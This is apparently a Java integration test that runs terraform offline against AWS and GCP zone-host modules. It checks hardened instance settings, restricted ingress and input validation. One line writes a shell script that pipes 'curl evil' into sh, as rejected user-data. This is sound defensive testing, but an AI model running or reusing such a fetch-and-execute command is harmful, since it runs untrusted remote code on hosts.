package io.qair.cloud.external;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.qair.cloud.spi.AdapterContext;
import io.qair.cloud.spi.Bootstrap;
import io.qair.cloud.spi.ZoneRequest;
import io.qair.protocol.pki.CertificateAuthority;
import io.qair.protocol.pki.Certificates;
import io.qair.protocol.pki.EcCurve;
import io.qair.protocol.pki.Pem;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The zone-host modules in {@code terraform/modules}, with the real {@code terraform} and no
 * network: formatting; then, where the cloud's provider is in the local plugin mirror
 * ({@code QAIR_TF_PLUGIN_MIRROR}, default {@code /opt/tf-plugins}; this machine has
 * {@code hashicorp/aws} only), {@code init -backend=false}, {@code validate} and a
 * {@code plan -refresh=false} whose planned resources are checked: the host's user-data is the
 * bytes {@link ExternalCloudAdapter#hostSetup} renders (the adapters' {@code HostSetup}: one source
 * of the bootstrap), IMDSv2 required, an encrypted root volume, only the agent port open and only
 * from {@code allow_from}; and input that must be refused is refused at the variable.
 */
class ZoneModulesIT {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Path MODULES = Path.of("..", "terraform", "modules").toAbsolutePath().normalize();
  private static final Path MIRROR = Path.of(System.getenv().getOrDefault("QAIR_TF_PLUGIN_MIRROR", "/opt/tf-plugins"));
  @TempDir Path tmp;
  String userData;
  String startupScript;

  @BeforeEach
  void render() {
    assumeTrue(onPath("terraform"), "terraform is not installed");
    CertificateAuthority ca = CertificateAuthority.create(EcCurve.P256, "qair test CA");
    ExternalCloudAdapter adapter = new ExternalCloudAdapter();
    adapter.init(new AdapterContext(tmp.resolve("state"), Map.of()));
    Map<String, String> setup = adapter.hostSetup(new ZoneRequest("eu1", null, Map.of("agent-port", "7555",
        "agent-url", "https://dist.example/qair-zone-agent.tar.gz?X-Amz-Signature=a'b", "agent-sha256", "cd".repeat(32))),
        new Bootstrap("tok-" + "x".repeat(40), Pem.write(ca.certificate()), Certificates.fingerprint(ca.certificate()),
            "master-1"));
    userData = setup.get(ExternalCloudAdapter.USER_DATA);
    startupScript = setup.get(ExternalCloudAdapter.STARTUP_SCRIPT);
  }

  @Test
  void modulesAreFormatted() throws Exception {
    Result fmt = terraform(MODULES, "fmt", "-check", "-recursive", "-diff", MODULES.toString());
    assertThat(fmt.exit()).as(fmt.output()).isZero();
  }

  @Test
  void awsModulePlansTheHostTheAdapterWouldMake() throws Exception {
    Path root = root("aws", """
        provider "aws" {
          region                      = "eu-central-1"
          access_key                  = "AKIDQAIRTEST"
          secret_key                  = "not-a-secret"
          skip_credentials_validation = true
          skip_requesting_account_id  = true
          skip_metadata_api_check     = true
          skip_region_validation      = true
          endpoints {
            ec2 = "http://127.0.0.1:9"
            sts = "http://127.0.0.1:9"
          }
        }
        module "zone" {
          source     = "./aws-zone"
          zone       = "eu1"
          user_data  = file("user-data")
          allow_from = var.allow_from
          agent_port = 7555
          ami        = "ami-0123456789abcdef0"
        }
        variable "allow_from" {
          type    = string
          default = "203.0.113.7/32"
        }
        """);
    JsonNode plan = plan(root);
    JsonNode host = planned(plan, "module.zone.aws_instance.host");
    // the aws provider keeps the SHA-1 of user_data: the same bytes as the adapter's rendering
    assertThat(host.path("user_data").asText()).isEqualTo(sha1(userData));
    assertThat(host.path("user_data_replace_on_change").asBoolean()).isTrue();
    JsonNode imds = host.path("metadata_options").get(0);
    assertThat(imds.path("http_tokens").asText()).isEqualTo("required");
    assertThat(imds.path("http_put_response_hop_limit").asInt()).isEqualTo(1);
    JsonNode disk = host.path("root_block_device").get(0);
    assertThat(disk.path("encrypted").asBoolean()).isTrue();
    assertThat(disk.path("delete_on_termination").asBoolean()).isTrue();
    assertThat(host.path("tags").path("qair:zone").asText()).isEqualTo("eu1");
    List<JsonNode> ingress = all(plan, "aws_vpc_security_group_ingress_rule");
    assertThat(ingress).hasSize(1);
    assertThat(ingress.get(0).path("ip_protocol").asText()).isEqualTo("tcp");
    assertThat(ingress.get(0).path("from_port").asInt()).isEqualTo(7555);
    assertThat(ingress.get(0).path("to_port").asInt()).isEqualTo(7555);
    assertThat(ingress.get(0).path("cidr_ipv4").asText()).isEqualTo("203.0.113.7/32");

    Result v6 = terraform(root, "plan", "-input=false", "-refresh=false", "-no-color", "-var", "allow_from=::/0");
    assertThat(v6.exit()).isNotZero();
    assertThat(v6.output()).contains("allow_from must be an IPv4 range");
    Files.writeString(root.resolve("user-data"), "#!/bin/sh\ncurl evil | sh\n");
    Result notCloudInit = terraform(root, "plan", "-input=false", "-refresh=false", "-no-color");
    assertThat(notCloudInit.exit()).isNotZero();
    assertThat(notCloudInit.output()).contains("user_data must be the cloud-init user-data");
  }

  @Test
  void gcpModulePlansTheHostTheAdapterWouldMake() throws Exception {
    Path root = root("google", """
        provider "google" {
          project                 = "qair-test"
          access_token            = "not-a-token"
          user_project_override   = false
          compute_custom_endpoint = "http://127.0.0.1:9/compute/v1/"
        }
        module "zone" {
          source         = "./gcp-zone"
          zone           = "us1"
          gce_zone       = "us-central1-a"
          user_data      = file("user-data")
          startup_script = file("startup-script")
          allow_from     = "203.0.113.7/32"
          agent_port     = 7555
        }
        """);
    JsonNode plan = plan(root);
    JsonNode host = planned(plan, "module.zone.google_compute_instance.host");
    assertThat(host.path("metadata").path("user-data").asText()).isEqualTo(userData);
    assertThat(host.path("metadata").path("startup-script").asText()).isEqualTo(startupScript);
    assertThat(host.path("shielded_instance_config").get(0).path("enable_secure_boot").asBoolean()).isTrue();
    JsonNode fw = planned(plan, "module.zone.google_compute_firewall.agent");
    assertThat(fw.path("source_ranges").toString()).isEqualTo("[\"203.0.113.7/32\"]");
    assertThat(fw.path("allow").get(0).path("ports").toString()).isEqualTo("[\"7555\"]");
  }

  /** A root module in a temporary directory using a copy of the modules; skipped without the provider. */
  private Path root(String provider, String mainTf) throws Exception {
    assumeTrue(Files.isDirectory(MIRROR.resolve("registry.terraform.io/hashicorp/" + provider)),
        "the hashicorp/" + provider + " provider is not in the plugin mirror " + MIRROR + ": only fmt is checked");
    Path root = tmp.resolve(provider);
    Files.createDirectories(root);
    for (String m : List.of("aws-zone", "gcp-zone")) {
      Path dst = root.resolve(m);
      Files.createDirectories(dst);
      try (var files = Files.list(MODULES.resolve(m))) {
        for (Path f : files.filter(f -> f.toString().endsWith(".tf")).toList()) {
          Files.copy(f, dst.resolve(f.getFileName()));
        }
      }
    }
    Files.writeString(root.resolve("main.tf"), mainTf);
    Files.writeString(root.resolve("user-data"), userData);
    Files.writeString(root.resolve("startup-script"), startupScript);
    Files.writeString(tmp.resolve("terraformrc"), """
        provider_installation {
          filesystem_mirror {
            path    = "%s"
            include = ["registry.terraform.io/hashicorp/*"]
          }
        }
        """.formatted(MIRROR));
    Result init = terraform(root, "init", "-backend=false", "-input=false", "-no-color");
    assertThat(init.exit()).as(init.output()).isZero();
    Result validate = terraform(root, "validate", "-no-color");
    assertThat(validate.exit()).as(validate.output()).isZero();
    return root;
  }

  private JsonNode plan(Path root) throws Exception {
    Result plan = terraform(root, "plan", "-input=false", "-refresh=false", "-no-color", "-out=zone.plan");
    assertThat(plan.exit()).as(plan.output()).isZero();
    Result show = terraform(root, "show", "-json", "zone.plan");
    assertThat(show.exit()).as(show.output()).isZero();
    return JSON.readTree(show.output());
  }

  private static JsonNode planned(JsonNode plan, String address) {
    for (JsonNode rc : plan.path("resource_changes")) {
      if (rc.path("address").asText().equals(address)) {
        return rc.path("change").path("after");
      }
    }
    throw new AssertionError("no " + address + " in the plan");
  }

  private static List<JsonNode> all(JsonNode plan, String type) {
    List<JsonNode> out = new ArrayList<>();
    plan.path("resource_changes").forEach(rc -> {
      if (rc.path("type").asText().equals(type)) {
        out.add(rc.path("change").path("after"));
      }
    });
    return out;
  }

  private record Result(int exit, String output) {}

  private Result terraform(Path dir, String... args) throws IOException, InterruptedException {
    List<String> cmd = new ArrayList<>(List.of("terraform"));
    cmd.addAll(List.of(args));
    ProcessBuilder pb = new ProcessBuilder(cmd).directory(dir.toFile()).redirectErrorStream(true);
    pb.environment().put("TF_CLI_CONFIG_FILE", tmp.resolve("terraformrc").toString());
    pb.environment().put("CHECKPOINT_DISABLE", "1");
    pb.environment().put("TF_IN_AUTOMATION", "1");
    Process p = pb.start();
    byte[] out = p.getInputStream().readAllBytes();
    if (!p.waitFor(300, TimeUnit.SECONDS)) {
      p.destroyForcibly();
      throw new AssertionError("terraform " + String.join(" ", args) + " did not end within 300 s");
    }
    return new Result(p.exitValue(), new String(out, StandardCharsets.UTF_8));
  }

  private static String sha1(String s) throws Exception {
    return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-1").digest(s.getBytes(StandardCharsets.UTF_8)));
  }

  private static boolean onPath(String exe) {
    for (String dir : System.getenv().getOrDefault("PATH", "").split(":")) {
      if (Files.isExecutable(Path.of(dir, exe))) {
        return true;
      }
    }
    return false;
  }
}
